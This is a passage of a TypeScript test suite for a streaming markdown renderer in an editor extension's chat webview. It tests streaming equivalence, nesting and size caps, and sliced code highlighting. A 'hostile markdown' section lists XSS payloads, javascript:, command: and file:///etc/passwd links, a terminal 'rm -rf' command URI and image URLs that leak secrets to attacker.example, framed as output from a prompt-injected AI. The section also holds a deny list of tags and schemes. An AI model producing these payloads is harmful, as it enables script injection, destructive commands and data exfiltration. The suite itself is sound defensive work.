// StreamingMarkdown (src/webview/streamingMarkdown.ts): streamed == one-go, then the caps on
// nesting and size, hostile markup, and sliced highlighting of big code blocks.
import * as assert from 'node:assert/strict';
import {
  idleQueueOf,
  codeTextOf,
  PLAIN_SEGMENT_CHARS,
  codeElementOf,
  plainSegmentOffsets,
  HIGHLIGHT_SLICE_CHARS,
  sliceOffsets,
} from '../../../src/webview/codeBlock';
import { StreamingMarkdown } from '../../../src/webview/streamingMarkdown';
import { newWindow, randomChunks, referenceHtml, seeded } from './jsdomEnv';
import {
  MAX_BLOCK_DEPTH,
  MAX_BLOCK_NESTING,
  MAX_INLINE_DEPTH,
  MAX_LINE_CHARS,
  MAX_LINE_PIPES,
  hasLongLine,
  isPathologicalMarkdown,
} from '../../../src/webview/markdown';
import { UserMessageElement } from '../../../src/webview/messageViews';
import { IdleQueue, type IdleDeadlineLike, type IdleHost } from '../../../src/webview/frameScheduler';

const win = newWindow();
const doc = win.document;

/** Texts chosen for the places where a block's meaning depends on the lines around it. */
const SAMPLES: Record<string, string> = {
  mixed: [
    '# Title',
    '',
    'Some *emphasis* and **strong** text with `code` and a [link](https://example.com/a?b=c).',
    'A second line of the same paragraph, https://bare.example.org/x autolinked.',
    '',
    '```ts',
    'const a: number = 1;',
    'function f(x: string) { return x + "```"; }',
    '```',
    '',
    '- one',
    '- two',
    '  continued',
    '',
    '- three (now loose)',
    '',
    '1. first',
    '2. second',
    '',
    '> quote',
    'lazy continuation',
    '',
    '| a | b |',
    '|:--|--:|',
    '| 1 | 2 |',
    '',
    'Setext heading',
    '==============',
    '',
    'para',
    '---',
    '',
    '***',
    '',
    '    indented code',
    '',
    '    more indented code',
    'after',
  ].join('\n'),
  fences: [
    '~~~',
    'tilde fence with ``` inside',
    '~~~',
    '````md',
    '```js',
    'nested',
    '```',
    '````',
    '  ```py',
    '  indented fence',
    '    deeper',
    '  ```',
    '```',
    'not closed by a shorter ``',
    '`` still inside',
    '```   ',
    'text after a fence closed with trailing spaces',
    '```sh',
    '$ echo unclosed at the end',
  ].join('\n'),
  lists: [
    '- a',
    '',
    '  ```ts',
    '  code inside a list item',
    '  ```',
    '- b',
    '  - nested',
    '    - deeper',
    '',
    '10. starts at ten',
    '11. next',
    '',
    '* other marker',
    '',
    'paragraph',
    '- interrupts it',
  ].join('\n'),
  partialLines: [
    '> a',
    '--x',
    '',
    'para',
    'a | b',
    '|-x',
    '',
    'h | i',
    '--|--',
    'j | k',
    '',
    'line with two trailing spaces  ',
    'hard break above',
    '',
    '-',
    '',
    'end',
  ].join('\n'),
  crlf: 'line one\r\nline two\r\n\r\n```js\r\nlet x = 1;\r\n```\r\n\r\ndone\r\n',
  empty: '',
  whitespace: '\n\n   \n',
  unclosedAtEnd: 'Intro\n\n```python\ndef f():\n    return 1\n',
  openingOnly: 'Text\n\n```',
};

function stream(text: string, seed: number, maxChunk: number, flushEvery: number): StreamingMarkdown {
  const rnd = seeded(seed);
  const r = new StreamingMarkdown(doc);
  let n = 0;
  for (const chunk of randomChunks(text, rnd, maxChunk)) {
    r.append(chunk);
    if (++n % flushEvery === 0) r.flush();
  }
  r.finish();
  // blocks closed while streaming are coloured on idle time
  idleQueueOf(doc)!.drain();
  return r;
}

describe('StreamingMarkdown', function () {
  // jsdom is slow and the test machines are shared: a generous limit (no timing is asserted)
  this.timeout(60_000);

  describe('streams to the same DOM as a single render', () => {
    for (const [name, text] of Object.entries(SAMPLES)) {
      it(`${name}: any chunking gives the reference DOM`, () => {
        const expected = referenceHtml(doc, text);
        assert.equal(StreamingMarkdown.render(doc, text).element.innerHTML, expected, 'one-go render differs from the reference');
        for (let seed = 1; seed <= 10; seed++) {
          const maxChunk = [2, 5, 11, 23, 61][seed % 5];
          const flushEvery = 1 + (seed % 3);
          const got = stream(text, seed, maxChunk, flushEvery).element.innerHTML;
          assert.equal(got, expected, `seed ${seed} (chunks <= ${maxChunk}, flush every ${flushEvery})`);
        }
      });
    }

    it('shows text before the answer is finished', () => {
      const r = new StreamingMarkdown(doc);
      r.append('Hello **wor');
      assert.equal(r.element.textContent, '', 'append alone must not touch the DOM');
      r.flush();
      assert.match(r.element.textContent ?? '', /Hello \*\*wor/);
      r.append('ld**');
      r.flush();
      assert.equal(r.element.querySelector('strong')?.textContent, 'world');
    });
  });

  it('never re-creates a completed block', () => {
    const r = new StreamingMarkdown(doc);
    r.append('# Heading\n\nFirst paragraph with a [link](https://a.example).\n\n```js\nconst x = 1;\n```\n\nSecond');
    r.flush();
    const h1 = r.element.querySelector('h1')!;
    const p = r.element.querySelector('p')!;
    const block = r.element.querySelector('.code-block')!;
    const snapshot = [h1.outerHTML, p.outerHTML, block.outerHTML];
    for (let i = 0; i < 50; i++) {
      r.append(` more text ${i}`);
      if (i % 10 === 9) r.append('\n\n- item\n\n');
      r.flush();
    }
    r.finish();
    assert.ok(r.element.contains(h1) && r.element.contains(p) && r.element.contains(block), 'completed blocks were replaced');
    assert.deepEqual([h1.outerHTML, p.outerHTML, block.outerHTML], snapshot, 'completed blocks were modified');
    assert.equal(r.element.querySelector('h1'), h1);
  });

  it('highlights a code block only once it is closed', () => {
    const r = new StreamingMarkdown(doc);
    r.append('Intro\n\n```js\nconst answer = 42;\nfunction f() { return "s"; }\n');
    r.flush();
    const code = r.element.querySelector('.code-block code')!;
    assert.ok(code, 'the open block is shown');
    assert.match(code.textContent ?? '', /const answer = 42;/);
    assert.equal(code.querySelector('[class^="hljs-"]'), null, 'open block must not be highlighted');
    r.append('let more = true;\n');
    r.flush();
    assert.equal(r.element.querySelector('.code-block code [class^="hljs-"]'), null);
    r.append('```\n\nafter');
    r.flush();
    assert.equal(r.element.querySelector('.code-block code [class^="hljs-"]'), null, 'colouring waits for idle time, out of the streaming frame');
    idleQueueOf(doc)!.drain();
    const closed = r.element.querySelector('.code-block code')!;
    assert.ok(closed.querySelector('.hljs-keyword'), 'closed block is highlighted');
    assert.equal(closed.textContent, 'const answer = 42;\nfunction f() { return "s"; }\nlet more = true;\n');
  });

  it('gives every code block Copy, Insert and Apply buttons', () => {
    const r = StreamingMarkdown.render(doc, '```py\nprint(1)\n```\n\n    indented\n\n- ```\n  in list\n  ```');
    const blocks = r.element.querySelectorAll('.code-block');
    assert.equal(blocks.length, 3);
    for (const b of Array.from(blocks)) {
      const names = Array.from(b.querySelectorAll('button')).map((x) => x.getAttribute('aria-label'));
      assert.deepEqual(names, ['Copy', 'Insert', 'Apply']);
      assert.ok(Array.from(b.querySelectorAll('button')).every((x) => x.getAttribute('type') === 'button'));
    }
    assert.equal(blocks[0].getAttribute('data-lang'), 'py');
  });

  it('appends to an open code fence without re-parsing it', () => {
    const r = new StreamingMarkdown(doc);
    r.append('Here:\n\n```ts\n');
    r.flush();
    const parsesAtOpen = r.stats.parses;
    const block = r.element.querySelector('.code-block')!;
    const code = block.querySelector('code')!;
    const lines: string[] = [];
    for (let i = 0; i < 400; i++) {
      const line = `const v${i} = ${i}; // a line of code`;
      lines.push(line);
      r.append(`${line}\n`);
      if (i % 30 === 29) r.flush();
    }
    r.flush();
    assert.equal(r.stats.parses, parsesAtOpen, 'an open fence must not be handed to the parser');
    assert.equal(r.element.querySelector('.code-block code'), code, 'the code element is kept while open');
    assert.equal(code.textContent, `${lines.join('\n')}\n`);
    assert.equal(code.querySelector('[class^="hljs-"]'), null);
    r.append('```\n');
    r.flush();
    assert.equal(r.element.querySelector('.code-block'), block, 'the block element is kept when it closes');
    // a block this size (14k) is coloured in idle slices: run them
    idleQueueOf(doc)!.drain();
    assert.ok(block.querySelector('code .hljs-keyword'), 'highlighted when closed');
    assert.equal(block.querySelector('code')!.textContent, `${lines.join('\n')}\n`);
    r.finish();
    assert.equal(r.element.innerHTML, referenceHtml(doc, `Here:\n\n\`\`\`ts\n${lines.join('\n')}\n\`\`\`\n`));
  });

  it('a huge line inside an open fence is joined once, not per flush', () => {
    const r = new StreamingMarkdown(doc);
    r.append('```\n');
    r.flush();
    const piece = 'x'.repeat(20);
    for (let i = 0; i < 2000; i++) {
      r.append(piece);
      r.flush();
    }
    r.append('\n```\n');
    r.finish();
    assert.equal(r.element.querySelector('code')?.textContent, `${piece.repeat(2000)}\n`);
  });

  /** characters handed to the parser per character of text, streaming in 20-char deltas */
  function parseWork(text: string, options: ConstructorParameters<typeof StreamingMarkdown>[1] = {}, flushEvery = 3): StreamingMarkdown {
    const r = new StreamingMarkdown(doc, options);
    for (let i = 0, n = 0; i < text.length; i += 20) {
      r.append(text.slice(i, i + 20));
      if (++n % flushEvery === 0) r.flush();
    }
    r.finish();
    return r;
  }

  it('parses work that grows linearly with the answer (mixed markdown)', () => {
    const para = (i: number) => `Paragraph ${i} has **bold**, \`code\` and a [link](https://e.example/${i}) in a sentence that goes on for a while.\n\n`;
    const fence = (i: number) => `\`\`\`js\nfunction f${i}() {\n  return ${i};\n}\n\`\`\`\n\n`;
    const text1 = Array.from({ length: 40 }, (_, i) => (i % 5 === 4 ? fence(i) : para(i))).join('');
    const text2 = text1 + text1 + text1;
    const w1 = parseWork(text1).stats.parsedChars / text1.length;
    const w2 = parseWork(text2).stats.parsedChars / text2.length;
    // re-parsing everything per flush would make w2 about 3x w1
    assert.ok(w2 / w1 < 1.2, `parsed characters per character grew from ${w1.toFixed(1)} to ${w2.toFixed(1)}`);
  });

  it('keeps a huge unfinished block (a long list) linear by re-rendering it geometrically', () => {
    const list = (n: number) => `${Array.from({ length: n }, (_, i) => `- item ${i} with some words`).join('\n')}\n\nafter the list\n`;
    const options = { largeTailChars: 1000, tailGrowth: 0.25 };
    const small = list(300);
    const large = list(1200);
    const rs = parseWork(small, options, 1);
    const rl = parseWork(large, options, 1);
    assert.ok(rl.stats.rawAppends > 0, 'the large-tail path was used');
    const ws = rs.stats.parsedChars / small.length;
    const wl = rl.stats.parsedChars / large.length;
    // re-parsing the list per flush would make wl about 4x ws
    assert.ok(wl / ws < 1.5, `parsed characters per character grew from ${ws.toFixed(1)} to ${wl.toFixed(1)}`);
    assert.equal(rl.element.querySelector('.md-raw'), null, 'no raw preview is left after finish');
    assert.equal(rl.element.innerHTML, referenceHtml(doc, large));
  });

  it('stops accepting text once finished', () => {
    const r = StreamingMarkdown.render(doc, 'done');
    r.append(' more');
    assert.equal(r.flush(), false);
    assert.equal(r.element.textContent, 'done');
  });
});

// No flush over 50 ms, on the hostile corpus and on restore: block quotes and lists nested
// deeper than MAX_BLOCK_DEPTH are not built as DOM; what is inside the deepest allowed container
// is one plain block holding its text exactly as typed. Checked as what is built (container
// depth, the plain block's exact text), never as time.
describe('webview: block nesting is capped at MAX_BLOCK_DEPTH, text kept exactly', function () {
  const doc = newWindow().document;
  const CONTAINERS = new Set(['BLOCKQUOTE', 'UL', 'OL', 'LI']);

  /** The most block containers (blockquote, ul, ol, li) any element of `root` sits in. */
  function containerDepth(root: Element): number {
    let max = 0;
    // iterative: an unbounded tree must fail the assertion, not overflow the stack here
    const stack: [Element, number][] = [[root, 0]];
    while (stack.length) {
      const [el, d] = stack.pop()!;
      const depth = d + (CONTAINERS.has(el.tagName) ? 1 : 0);
      if (depth > max) max = depth;
      for (let c = el.firstElementChild; c; c = c.nextElementSibling) stack.push([c, depth]);
    }
    return max;
  }

  function deepTexts(root: Element): string[] {
    return Array.from(root.querySelectorAll('.md-deep')).map((b) => codeTextOf(b));
  }

  /** One-go and streamed in seeded random chunks (flushing after each), colouring drained. */
  function both(src: string, maxChunk: number): [string, Element][] {
    const once = StreamingMarkdown.render(doc, src).element;
    const r = new StreamingMarkdown(doc);
    for (const piece of randomChunks(src, seeded(src.length), maxChunk)) {
      r.append(piece);
      r.flush();
      assert.ok(containerDepth(r.element) <= MAX_BLOCK_DEPTH, `while streaming: container depth ${containerDepth(r.element)}`);
    }
    r.finish();
    idleQueueOf(doc)!.drain();
    assert.ok(r.element.innerHTML === once.innerHTML, 'streamed == one-go');
    return [
      ['one-go', once],
      ['streamed', r.element],
    ];
  }

  const listLine = (i: number) => `${'  '.repeat(i)}- item${i}`;
  /** The list level whose item content is the first thing at the cap (ul + li = two levels each). */
  const LAST_LIST = MAX_BLOCK_DEPTH / 2 - 1;

  // jsdom is slow and the machines are shared: a generous limit (no timing is asserted)
  this.timeout(120_000);

  it('block quotes x500 on one line: MAX_BLOCK_DEPTH quotes, then the rest as typed', () => {
    const src = `${'> '.repeat(500)}deep quote\n\nafter`;
    for (const [how, el] of both(src, 40)) {
      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
      assert.equal(el.querySelectorAll('blockquote').length, MAX_BLOCK_DEPTH, how);
      assert.deepEqual(deepTexts(el), [`${'> '.repeat(500 - MAX_BLOCK_DEPTH)}deep quote`], how);
      assert.equal(el.lastElementChild?.lastElementChild?.tagName, 'P', `${how}: the paragraph after it is markdown again`);
      assert.equal(el.lastElementChild?.lastElementChild?.textContent, 'after', how);
    }
  });

  it('lists x120: the first levels are lists, the rest one plain block with every line', () => {
    const lines = Array.from({ length: 120 }, (_, i) => listLine(i));
    const src = `${lines.join('\n')}\n\nafter`;
    // item LAST_LIST's content and everything below it, relative to that item's indentation
    const indent = 2 * (LAST_LIST + 1);
    const expected = [`item${LAST_LIST}`, ...lines.slice(LAST_LIST + 1).map((l) => l.slice(indent))].join('\n');
    for (const [how, el] of both(src, 200)) {
      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
      assert.equal(el.querySelectorAll('ul').length, LAST_LIST + 1, how);
      assert.deepEqual(deepTexts(el), [expected], how);
      assert.match(el.textContent ?? '', /after$/, how);
    }
  });

  it('quotes and lists mixed, each line one level deeper: no element deeper than the cap, every word kept', () => {
    // short enough (and few enough delimiters) to be parsed as markdown, not shown whole as plain text
    const src = Array.from({ length: 40 }, (_, i) => `${'> '.repeat(Math.floor(i / 2))}${i % 2 ? '- ' : ''}word${i} text`).join('\n');
    for (const [how, el] of both(src, 30)) {
      assert.equal(containerDepth(el), MAX_BLOCK_DEPTH, how);
      assert.ok(deepTexts(el).length >= 1, `${how}: the levels below the cap are plain blocks`);
      const shown = (el.textContent ?? '').match(/word\d+/g);
      assert.deepEqual(
        shown?.filter((w, k, a) => a.indexOf(w) === k),
        Array.from({ length: 40 }, (_, i) => `word${i}`),
        `${how}: every word, in order`,
      );
    }
  });

  it('nesting up to the cap is markdown as before (no plain block)', () => {
    const lines = Array.from({ length: LAST_LIST }, (_, i) => listLine(i));
    const quotes = `${'> '.repeat(MAX_BLOCK_DEPTH - 1)}one quote less than the cap`;
    for (const [how, el] of [...both(lines.join('\n'), 20), ...both(quotes, 20)]) {
      assert.deepEqual(deepTexts(el), [], how);
    }
    assert.equal(StreamingMarkdown.render(doc, quotes).element.querySelectorAll('blockquote').length, MAX_BLOCK_DEPTH - 1);
    assert.equal(StreamingMarkdown.render(doc, lines.join('\n')).element.querySelectorAll('ul').length, LAST_LIST);
  });
});

// Deeply nested markup must neither throw (stack overflow in jsdom) nor build
// a DOM thousands of elements deep, and no text may be lost. These check bounded work (DOM
// depth, parser calls, fallbacks), never time.
describe('webview: deeply nested markup', () => {
  const doc = newWindow().document;

  function depthOf(root: Element): number {
    let max = 0;
    // iterative: an unbounded tree must fail the assertion, not overflow the stack here
    const stack: [Element, number][] = [[root, 0]];
    while (stack.length) {
      const [el, d] = stack.pop()!;
      if (d > max) max = d;
      for (let c = el.firstElementChild; c; c = c.nextElementSibling) stack.push([c, d + 1]);
    }
    return max;
  }

  /** The visible characters, whitespace and the code toolbar's labels left out. */
  function visibleText(root: Element): string {
    const clone = root.cloneNode(true) as Element;
    for (const t of Array.from(clone.querySelectorAll('.code-toolbar'))) t.remove();
    return (clone.textContent ?? '').replace(/\s+/g, '');
  }

  const CASES: [string, string][] = [
    ['nested emphasis x2000', '*a '.repeat(2000) + 'x' + ' b*'.repeat(2000)],
    ['nested strong x2000', '**a '.repeat(2000) + 'x' + ' b**'.repeat(2000)],
    ['nested strike+emphasis x1500', '~~*a '.repeat(1500) + 'x' + ' b*~~'.repeat(1500)],
    ['nested emphasis x300 (short, below the plain-text size)', '_a '.repeat(300) + 'x' + ' b_'.repeat(300)],
    ['nested links x3000', '['.repeat(3000) + 'x' + '](https://example.com)'.repeat(3000)],
    ['nested block quotes x500', '>'.repeat(500) + ' deep text'],
    ['nested lists x120', Array.from({ length: 120 }, (_, i) => `${'  '.repeat(i)}- item${i}`).join('\n')],
    ['quotes and emphasis x200', Array.from({ length: 200 }, (_, i) => `${'> '.repeat(i)}*q${i}*`).join('\n')],
  ];

  for (const [name, src] of CASES) {
    it(`${name}: renders at once without throwing, bounded depth, no text lost`, () => {
      const r = StreamingMarkdown.render(doc, src);
      assert.ok(depthOf(r.element) <= MAX_BLOCK_NESTING + MAX_INLINE_DEPTH + 8, `DOM depth ${depthOf(r.element)}`);
      const expected = src.replace(/[*_~>[\]()\-\s]|https:\/\/example\.com/g, '');
      const shown = visibleText(r.element).replace(/[*_~>[\]()-]|https:\/\/example\.com/g, '');
      assert.equal(shown, expected, 'every word of the text is shown');
    });

    it(`${name}: streamed in random chunks: bounded depth at every flush, no text lost`, () => {
      const rnd = seeded(name.length * 7919);
      const r = new StreamingMarkdown(doc);
      for (const piece of randomChunks(src, rnd, 700)) {
        r.append(piece);
        r.flush();
        assert.ok(depthOf(r.element) <= MAX_BLOCK_NESTING + MAX_INLINE_DEPTH + 8);
      }
      r.finish();
      // (where a streamed text falls back to plain text may differ from a one-go render: the
      // fallback is decided per unfinished block, and blocks are cut where lines complete)
      const expected = src.replace(/[*_~>[\]()\-\s]|https:\/\/example\.com/g, '');
      assert.equal(visibleText(r.element).replace(/[*_~>[\]()-]|https:\/\/example\.com/g, ''), expected);
    });
  }

  it('inline markup deeper than the cap is shown as the typed characters', () => {
    const n = MAX_INLINE_DEPTH + 10;
    const r = StreamingMarkdown.render(doc, '*a '.repeat(n) + 'x' + ' b*'.repeat(n));
    assert.equal(r.element.querySelectorAll('em').length, MAX_INLINE_DEPTH);
    assert.equal(r.stats.plainFallbacks, 0, 'short text is still markdown');
    assert.ok((r.element.textContent ?? '').includes('*a *a'), 'the delimiters beyond the cap stay visible');
  });

  it('a long pathological block is not handed to markdown-it at all', () => {
    const r = StreamingMarkdown.render(doc, '*a '.repeat(20_000) + 'x' + ' b*'.repeat(20_000));
    assert.equal(r.stats.parses, 0);
    assert.equal(r.stats.plainFallbacks, 1);
    assert.ok(r.element.querySelector('.code-block.md-plain'));
  });

  it('block nesting beyond the limit keeps the text (markdown-it alone would drop it)', () => {
    const r = StreamingMarkdown.render(doc, `${'>'.repeat(MAX_BLOCK_NESTING + 20)} the end\n\nafter`);
    assert.match(r.element.textContent ?? '', /the end/);
    assert.match(r.element.textContent ?? '', /after/);
  });

  it('ordinary markdown is untouched by the caps', () => {
    const r = StreamingMarkdown.render(doc, '> quote with ***bold italic*** and [a link](https://example.com)\n\n- a\n  - b\n    - c');
    assert.equal(r.stats.plainFallbacks, 0);
    assert.ok(r.element.querySelector('blockquote em strong, blockquote strong em'));
    assert.equal(r.element.querySelectorAll('ul ul ul').length, 1);
  });
});

describe('hostile markdown', function () {
  const doc = newWindow().document;

  /** What a prompt-injected answer may try. None of it may become live markup. */
  const HOSTILE: string[] = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'inline <img src=x onerror="alert(1)"> in a paragraph',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](jav&#x61;script:alert(1))',
    '[x]( javascript:alert(1) )',
    '<javascript:alert(1)>',
    '![](https://attacker/?q=secret)',
    '![diagram](https://attacker.example/leak.png?data=API_KEY "title")',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
    '<iframe src="https://attacker.example"></iframe>',
    '<a href="command:workbench.action.terminal.new">open</a>',
    '[run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%20-rf%22%7D)',
    '<command:workbench.action.reloadWindow>',
    '[settings](vscode://settings/security)',
    '[passwd](file:///etc/passwd)',
    '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '<object data="x"></object><embed src="x"><form action="https://a"><input name=q></form>',
    '<style>body{display:none}</style>',
    '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
    '<svg onload=alert(1)><circle r=5 /></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
    '- [x](command:evil)\n- ![](https://attacker/?q=1)\n  > <script>alert(1)</script>',
    '<a href="https://ok.example" onclick="alert(1)" style="color:red">styled</a>',
    '[ok](https://ok.example "t\\" onmouseover=\\"alert(1)")',
  ];

  const FORBIDDEN_TAGS = [
    'script',
    'img',
    'iframe',
    'object',
    'embed',
    'form',
    'input',
    'style',
    'svg',
    'math',
    'link',
    'meta',
    'base',
    'video',
    'audio',
    'source',
  ];
  const BAD_SCHEME = /^\s*(javascript|command|vscode|file|data|vbscript):/i;

  function assertInert(root: Element, label: string): void {
    for (const tag of FORBIDDEN_TAGS) {
      // the panel's own icons (code block toolbar) are the only SVG allowed
      const found = Array.from(root.querySelectorAll(tag)).filter(
        (el) => !(tag === 'svg' && el.closest('.code-toolbar') && el.getAttribute('aria-hidden') === 'true'),
      );
      assert.equal(found.length, 0, `${label}: <${tag}> rendered`);
    }
    for (const el of Array.from(root.querySelectorAll('*'))) {
      for (const attr of Array.from(el.attributes)) {
        assert.ok(!/^on/i.test(attr.name), `${label}: ${attr.name} attribute on <${el.tagName}>`);
        assert.notEqual(attr.name, 'style', `${label}: style attribute on <${el.tagName}>`);
        assert.notEqual(attr.name, 'src', `${label}: src attribute on <${el.tagName}>`);
        if (attr.name === 'href' || attr.name === 'xlink:href' || attr.name === 'action' || attr.name === 'formaction') {
          assert.ok(!BAD_SCHEME.test(attr.value), `${label}: ${attr.name}="${attr.value}"`);
          assert.match(attr.value, /^https?:\/\//i, `${label}: only web links may stay links`);
        }
      }
    }
  }

  // jsdom is slow and the test machines are shared: a generous limit (no timing is asserted)
  this.timeout(60_000);

  for (const input of HOSTILE) {
    it(`renders inert: ${JSON.stringify(input).slice(0, 70)}`, () => {
      const once = StreamingMarkdown.render(doc, input).element;
      assertInert(once, 'one-go');
      const rnd = seeded(input.length);
      const r = new StreamingMarkdown(doc);
      for (const c of randomChunks(input, rnd, 4)) {
        r.append(c);
        r.flush();
        assertInert(r.element, 'while streaming');
      }
      r.finish();
      assertInert(r.element, 'streamed');
      idleQueueOf(doc)!.drain(); // blocks closed while streaming are coloured on idle time
      assertInert(r.element, 'streamed and coloured');
      assert.equal(r.element.innerHTML, once.innerHTML);
    });
  }

  it('shows a markdown image as link text instead of loading it', () => {
    const el = StreamingMarkdown.render(doc, 'see ![chart](https://attacker/?q=secret) here').element;
    const link = el.querySelector('a.md-image-link');
    assert.ok(link, 'image became a link-like element');
    assert.equal(link.getAttribute('href'), 'https://attacker/?q=secret');
    assert.equal(link.textContent, '🖼 chart (https://attacker/?q=secret)');
  });

  it('keeps the text of links it refuses, without a link', () => {
    const el = StreamingMarkdown.render(doc, '[open terminal](command:workbench.action.terminal.new) and [home](https://example.com)').element;
    const anchors = Array.from(el.querySelectorAll('a'));
    assert.deepEqual(
      anchors.map((a) => a.getAttribute('href')),
      ['https://example.com'],
    );
    assert.match(el.textContent ?? '', /open terminal/);
    assert.ok(el.querySelector('span.md-link-disabled'));
  });

  it('renders raw HTML as visible text', () => {
    const el = StreamingMarkdown.render(doc, 'a <b>bold</b> <script>alert(1)</script> tag').element;
    assert.equal(el.querySelector('b'), null);
    assert.match(el.textContent ?? '', /<b>bold<\/b> <script>alert\(1\)<\/script>/);
  });
});

// Blocks whose formatting costs the panel hundreds of milliseconds per flush
// (one 200 KB line, a 3,000-column table) are shown as plain text instead, and no character is
// lost; plain text and the raw preview are built in bounded segments. Checked as what is built
// (a plain block holding the exact source, segment sizes), never as time.
describe('webview: size caps show oversized blocks as plain text, text exact', function () {
  const doc = newWindow().document;
  const words = (n: number) => Array.from({ length: n }, (_, i) => `w${i}`).join(' ');
  const table = (cols: number) => `|${' a |'.repeat(cols)}\n|${'---|'.repeat(cols)}\n|${' b |'.repeat(cols)}`;

  const CASES: [string, string][] = [
    ['a 3,000-column table', table(3000)],
    ['a 200 KB line of words', words(30_000)],
    ['a 100 KB word', 'a'.repeat(100_000)],
    ['a long line between paragraphs', `first paragraph\n\n${'x y '.repeat(MAX_LINE_CHARS / 3)}\n\nlast paragraph`],
  ];

  function plainTexts(root: Element): string[] {
    return Array.from(root.querySelectorAll('.md-plain')).map((b) => codeTextOf(b));
  }

  this.timeout(120_000);

  it('the caps trigger on the pipes per line and the length of a line only', () => {
    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 2)}`), false, 'a line of MAX_LINE_CHARS characters stays a paragraph');
    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 2)}y`), true, 'one character more is plain text');
    assert.equal(hasLongLine(`short\n${'x '.repeat(MAX_LINE_CHARS / 2)}y\nshort`), true);
    assert.equal(hasLongLine(`${'x '.repeat(MAX_LINE_CHARS / 4)}\n`.repeat(8)), false, 'many long lines, each under the cap, are fine');
    assert.equal(isPathologicalMarkdown(`${words(30_000)} end`), false, 'a long line of words is not pathological markup (only too long)');
    assert.equal(isPathologicalMarkdown(table(MAX_LINE_PIPES + 1)), true);
    assert.equal(isPathologicalMarkdown(table(40)), false, 'a wide but ordinary table is still a table');
    assert.equal(isPathologicalMarkdown(`${'line of prose\n'.repeat(5000)}`), false, 'many short lines are fine');
  });

  for (const [name, text] of CASES) {
    it(`${name}: one-go and streamed, shown as a plain block with every character`, () => {
      const once = StreamingMarkdown.render(doc, text).element;
      const rnd = seeded(text.length);
      const r = new StreamingMarkdown(doc);
      for (const c of randomChunks(text, rnd, 3000)) {
        r.append(c);
        r.flush();
      }
      r.finish();
      idleQueueOf(doc)!.drain();
      const expected = text.split('\n\n').find((p) => p.length > 1000)!;
      for (const [how, el] of [
        ['one-go', once],
        ['streamed', r.element],
      ] as const) {
        const plain = plainTexts(el);
        assert.equal(plain.length, 1, `${how}: one plain block`);
        assert.equal(el.querySelector('table'), null, `${how}: no table element built`);
        assert.ok(plain[0] === expected, `${how}: exact text (${plain[0].length} of ${expected.length} characters)`);
        const segments = Array.from(codeElementOf(el.querySelector('.md-plain')!)!.children);
        assert.ok(
          segments.length > 1 && segments.every((s) => s.className === 'code-segment' && (s.textContent ?? '').length <= PLAIN_SEGMENT_CHARS),
          `${how}: in segments of at most ${PLAIN_SEGMENT_CHARS} characters`,
        );
        if (text !== expected)
          assert.deepEqual(
            Array.from(el.querySelectorAll('p')).map((p) => p.textContent),
            ['first paragraph', 'last paragraph'],
            `${how}: the other blocks stay markdown`,
          );
      }
      assert.ok(r.element.innerHTML === once.innerHTML, 'streamed == one-go');
    });
  }

  it('plain segments end at a line end when one is in their second half, never inside a surrogate pair', () => {
    const text = `${'short line\n'.repeat(500)}${'😀'.repeat(3000)}`;
    const cuts = plainSegmentOffsets(text);
    assert.equal(cuts[0], 0);
    assert.equal(cuts[cuts.length - 1], text.length);
    for (let i = 1; i + 1 < cuts.length; i++) {
      assert.ok(cuts[i] - cuts[i - 1] <= PLAIN_SEGMENT_CHARS && cuts[i] > cuts[i - 1]);
      if (cuts[i] <= 5500) assert.equal(text[cuts[i] - 1], '\n', `cut ${i} at a line end`);
      const c = text.charCodeAt(cuts[i] - 1);
      assert.ok(!(c >= 0xd800 && c <= 0xdbff), `cut ${i} splits a surrogate pair`);
    }
  });

  it('the raw preview of a large unfinished block grows in bounded segments, and nothing of it is left after finish', () => {
    const text = 'z '.repeat(60_000);
    const r = new StreamingMarkdown(doc);
    let sawRaw = false;
    for (const c of randomChunks(text, seeded(7), 500)) {
      r.append(c);
      r.flush();
      const raw = r.element.querySelector('.md-raw');
      if (!raw) continue;
      sawRaw = true;
      for (const seg of Array.from(raw.children)) assert.ok(seg.className === 'md-raw-segment' && (seg.textContent ?? '').length <= PLAIN_SEGMENT_CHARS);
      assert.equal(raw.childNodes.length, raw.children.length, 'only segments directly in the preview');
    }
    assert.ok(sawRaw && r.stats.rawAppends > 0);
    r.finish();
    assert.equal(r.element.querySelector('.md-raw'), null);
    assert.equal(plainTexts(r.element).join(''), text);
  });

  it("the user's own long message is kept exactly, in bounded segments; a short one is one text", () => {
    const user = (text: string) =>
      new UserMessageElement(doc, { id: 'u', role: 'user', text, attachments: [], createdAt: 0 }).element.querySelector('.message-text')!;
    const short = user('hello\n  world');
    assert.equal(short.children.length, 0);
    assert.equal(short.textContent, 'hello\n  world');
    for (const [, text] of CASES) {
      const el = user(text);
      assert.equal(el.textContent, text, 'the exact text');
      assert.ok(el.children.length > 1, 'segments');
      for (const seg of Array.from(el.children)) assert.ok(seg.className === 'text-segment' && (seg.textContent ?? '').length <= PLAIN_SEGMENT_CHARS);
      assert.equal(el.childNodes.length, el.children.length, 'only segments directly in the text');
    }
  });
});

// A big closed code block is highlighted in slices on idle time, never in one task.
// Checked as bounded work per idle step (characters handed to highlight.js), never as time.
describe('webview: big code blocks are highlighted in slices on idle time', () => {
  function bigTs(chars: number): string {
    const lines: string[] = [];
    let n = 0;
    for (let i = 0; n < chars; i++) {
      const l = i % 40 === 39 ? '' : `export const value${i} = compute(${i}, "text", { flag: ${i % 2 === 0} }); // line ${i}`;
      lines.push(l);
      n += l.length + 1;
    }
    return lines.join('\n');
  }

  class ManualIdle implements IdleHost {
    private cb: ((d: IdleDeadlineLike) => void) | null = null;
    setTimeout = () => 0;
